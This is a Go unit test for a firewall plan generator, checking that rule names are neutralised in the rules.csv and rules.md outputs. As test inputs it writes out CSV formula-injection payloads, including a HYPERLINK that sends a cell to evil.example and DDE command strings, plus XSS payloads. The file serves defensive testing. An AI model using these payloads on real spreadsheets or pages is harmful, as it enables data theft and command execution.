package firewall

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/mobplan/mobplan/planner/plan"
)

// The attacks of issue 9 on the firewall files: a firewall rule name
// starting with '=', '+', '-' or '@' became a formula in rules.csv, and
// Markdown passed raw HTML. No cell of the CSV starts a formula, and no
// value of the Markdown table is HTML, a link or another cell.
func TestIssueAttacks(t *testing.T) {
	for _, name := range []string{
		`=HYPERLINK("https://evil.example/?"&A1,"click")`,
		"+cmd|' /C calc'!A0",
		"-2+3",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1",
		"\r=1+1",
	} {
		p := examplePlan(t, "contoso")
		// fwDeclared writes a declared rule's name first in its purpose.
		p.Firewall = append(p.Firewall, plan.FirewallRule{ID: "F99", Source: name, Destination: "Any", Protocol: "TCP", Ports: "443",
			Direction: name, Purpose: name + ": web", Why: "declared"})
		fs := files(t, p)
		recs, err := csv.NewReader(bytes.NewReader(fs["firewall/rules.csv"])).ReadAll()
		if err != nil {
			t.Fatalf("%q: the CSV does not parse: %v", name, err)
		}
		if len(recs) != len(p.Firewall)+1 {
			t.Fatalf("%q: %d rows for %d rules", name, len(recs), len(p.Firewall))
		}
		for _, rec := range recs {
			if len(rec) != len(Columns) {
				t.Fatalf("%q: a row of %d fields: %q", name, len(rec), rec)
			}
			for _, c := range rec {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("%q: the cell %q starts a formula", name, c)
				}
			}
		}
	}
	p := examplePlan(t, "contoso")
	p.Firewall[0].Purpose = `<img src=x onerror=alert(1)> [link](javascript:alert(1)) <script>x</script> &lt; ` + "`code`"
	md := string(files(t, p)["firewall/rules.md"])
	for _, raw := range []string{"<img", "<script", "[link]", "&lt;", "`code`"} {
		if unescaped(md, raw) {
			t.Errorf("rules.md holds %q raw:\n%s", raw, md)
		}
	}
}

// unescaped reports whether doc holds s other than right after a '\'.
func unescaped(doc, s string) bool {
	for i := 0; ; {
		j := strings.Index(doc[i:], s)
		if j < 0 {
			return false
		}
		if i+j == 0 || doc[i+j-1] != '\\' {
			return true
		}
		i += j + 1
	}
}
